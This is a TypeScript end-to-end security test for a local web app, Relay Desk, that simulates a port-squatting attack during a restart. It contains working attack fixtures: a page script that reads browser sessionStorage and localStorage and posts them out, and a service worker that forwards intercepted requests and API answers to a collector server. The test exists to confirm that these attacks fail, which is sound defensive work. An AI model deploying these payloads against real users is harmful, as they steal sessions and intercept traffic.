// Issue 12 item 6, the squat-and-release attack, built for real: `relay ui` stops while two
// pages are open in chromium; another local program takes its port, listens to everything the
// pages send while they look for the server, and serves its own page to the tab that reloads:
// that page reads the tab's storage and registers a service worker meant to sit between the user
// and the next server at that address. Then it lets the port go and `relay ui` starts again.
// Nothing the squatter heard or read works against the new run; the new run is at an address
// nobody could know in advance (a random loopback address), so the worker never sees a request;
// the open page never sent its secret again and never took the squatter for Relay Desk.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import type { RelayApi } from '../../src/shared/api.js';
import { uiRuns } from '../e2e/support/ui-runs.js';
import { until } from '../e2e/support/pages.js';
import { openSocket } from '../helpers/socket.js';
import { tempDir } from '../helpers/temp.js';
import { httpRequest, refusalCode, sessionProtocols, socketUrl } from '../helpers/ui.js';

declare const window: { relay: RelayApi };
declare const document: { querySelector(selector: string): unknown; title: string };

const PATH = process.env.PATH ?? '/usr/bin:/bin';
const TOKEN = /[A-Za-z0-9_-]{43}/g;

/** What the squatter heard: every request's method, path, headers and body. */
interface Heard {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** The page the squatter serves to a tab that reloads: it sends that tab's storage home and installs a service worker. */
const LOOTING_PAGE = `<!doctype html><title>squatter</title><script>
  const loot = { session: {}, local: {} };
  for (let i = 0; i < sessionStorage.length; i += 1) loot.session[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
  for (let i = 0; i < localStorage.length; i += 1) loot.local[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
  fetch('/loot', { method: 'POST', body: JSON.stringify(loot) })
    .then(() => navigator.serviceWorker.register('/sw.js', { scope: '/' }))
    .then(() => navigator.serviceWorker.ready)
    .then(() => { document.title = 'looted'; }, (error) => { document.title = 'failed: ' + error; });
</script>`;

/** The service worker: it would report every request of this origin (and every answer to the session endpoints) to the collector. */
function serviceWorker(collector: string): string {
  return `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const report = (what) => fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) }).catch(() => undefined);
  event.respondWith((async () => {
    const request = event.request.clone();
    const body = request.method === 'POST' ? await request.text() : '';
    const response = await fetch(event.request);
    const answer = event.request.url.includes('/api/') ? await response.clone().text() : '';
    report({ url: event.request.url, body, answer });
    return response;
  })());
});`;
}

async function listen(server: Server, port: number, address = '127.0.0.1'): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, address, () => resolve());
  });
}

async function close(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
}

/** Takes the address of `origin` (any local user can read it in /proc/net/tcp) and records everything; answers what a naive server would. */
async function squat(origin: string, collector: string): Promise<{ heard: Heard[]; release(): Promise<void> }> {
  const heard: Heard[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      heard.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      if (request.url === '/sw.js') {
        response.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': 'no-store' });
        response.end(serviceWorker(collector));
      } else if (request.method === 'GET') {
        response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
        response.end(LOOTING_PAGE);
      } else {
        // "Yes, I know you": whatever a page asks, in the shapes it expects.
        response.writeHead(200, { 'Content-Type': 'application/json' });
        response.end(JSON.stringify({ proof: 'P'.repeat(43), session: 'S'.repeat(43) }));
      }
    });
  });
  server.on('upgrade', (request, socket) => {
    heard.push({ method: 'UPGRADE', url: request.url ?? '', headers: request.headers, body: '' });
    socket.destroy();
  });
  const { hostname, port } = new URL(origin);
  await listen(server, Number(port), hostname);
  return { heard, release: () => close(server) };
}

describe('relay ui: a program that takes the port while it is down, then lets it go', () => {
  const runs = uiRuns();

  it('hears and plants nothing that works against the next run, and the open page never takes it for Relay Desk', async () => {
    // Where the squatter's service worker would report (it stays up after the squatter lets the port go).
    const reports: string[] = [];
    const collector = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        reports.push(body);
        response.end();
      });
    });
    await listen(collector, 0);
    const collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/report`;

    const dataDir = tempDir('relay-squat-data-');
    const env = { PATH, HOME: tempDir('relay-squat-home-') };
    const first = await runs.start({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
    const staying = await runs.browser().newPage();
    await staying.goto(first.link);
    await staying.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    const reloading = await runs.browser().newPage();
    await reloading.goto(await first.newLink());
    await reloading.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    const stayingSession = (await staying.evaluate(() => (globalThis as unknown as { sessionStorage: { getItem(k: string): string | null } }).sessionStorage.getItem('relay-desk.session')))!;
    expect(stayingSession).toMatch(/^[A-Za-z0-9_-]{43}$/);

    expect((await first.stop()).exitCode).toBe(0);
    const squatter = await squat(first.origin, collectorUrl);
    try {
      // The open page looks for its server and finds the squatter; the other tab reloads onto it.
      await until('the open page to knock', () => (squatter.heard.some((h) => h.url === '/api/session/hello') ? true : undefined), 30_000);
      await reloading.reload();
      // 'looted' is set once the worker is registered and active at the old address: the attack is real.
      await reloading.waitForFunction(() => document.title === 'looted', undefined, { timeout: 20_000 });
      // And it works: a request of that tab goes through it to the collector.
      await reloading.evaluate(() => fetch('/api/worker-check', { method: 'POST', body: 'x' }).then(() => undefined));
      await until('the planted worker to report', () => (reports.some((report) => report.includes('/api/worker-check')) ? true : undefined), 20_000);
      await until('more knocks', () => (squatter.heard.filter((h) => h.url === '/api/session/hello').length >= 2 ? true : undefined), 30_000);
      // The open page does not take the squatter for Relay Desk: it says so, and connects to nothing there.
      await staying.getByRole('alert').filter({ hasText: 'Relay Desk does not know this page any more' }).waitFor({ state: 'visible', timeout: 20_000 });
    } finally {
      await squatter.release();
    }

    // What the open page sent: hellos naming its session by its public id and a nonce; never the secret, never a socket.
    const fromStayingPage = squatter.heard.filter((h) => (h.url.startsWith('/api/') && h.url !== '/api/worker-check') || h.method === 'UPGRADE');
    expect(fromStayingPage.length).toBeGreaterThanOrEqual(2);
    expect(fromStayingPage.every((h) => h.url === '/api/session/hello' && h.method === 'POST')).toBe(true);
    const everything = squatter.heard.map((h) => `${JSON.stringify(h.headers)} ${h.body}`).join('\n');
    expect(everything).not.toContain(stayingSession);
    const loot = JSON.parse(squatter.heard.find((h) => h.url === '/loot')!.body) as { session: Record<string, string> };
    const stolenSession = loot.session['relay-desk.session'];
    expect(stolenSession).toMatch(/^[A-Za-z0-9_-]{43}$/);

    // relay ui again: a new, unguessable address, so nothing the squatter left at the old one (or any it could have known) stands in its way.
    const second = await runs.start({ args: ['--data-dir', dataDir], env, cwd: tempDir() });
    expect(new URL(second.origin).hostname).not.toBe(new URL(first.origin).hostname);
    expect(new URL(second.origin).hostname).not.toBe('127.0.0.1');

    // Everything the squatter heard or read, replayed against the new run: no secret and no session id is known there.
    const candidates = new Set([...everything.matchAll(TOKEN)].map((match) => match[0]));
    candidates.add(stolenSession!);
    expect(candidates.size).toBeGreaterThanOrEqual(3);
    for (const secret of candidates) {
      await expect(openSocket(socketUrl(second.origin), { origin: second.origin, protocols: sessionProtocols(secret) }).opened).rejects.toMatchObject({ status: 401, code: 'SESSION_UNKNOWN' });
      const hello = await httpRequest(second.origin, { path: '/api/session/hello', method: 'POST', headers: { origin: second.origin, 'content-type': 'application/json' }, body: JSON.stringify({ sessionId: secret, pageNonce: 'A'.repeat(43) }) });
      expect([hello.status, refusalCode(hello)]).toEqual([401, 'SESSION_UNKNOWN']);
    }

    // The tab with the squatter's service worker opens the new run's link: it works, and the worker sees none of it.
    const reportsBefore = reports.length;
    await reloading.goto(second.link);
    await reloading.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    expect(await reloading.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
    await reloading.waitForTimeout(500);
    expect(reports.slice(reportsBefore).filter((report) => report.includes(new URL(second.origin).host))).toEqual([]);

    // The open page stays on its old address, saying what to open; the new run's link works there too.
    await staying.goto(await second.newLink());
    await staying.waitForFunction(() => document.querySelector('nav[aria-label="Relay Desk"]') !== null);
    expect(await staying.evaluate(() => window.relay.listProjects({}))).toEqual({ ok: true, value: [] });
    await staying.close();
    await reloading.close();
    await close(collector);
  }, 120_000);
});
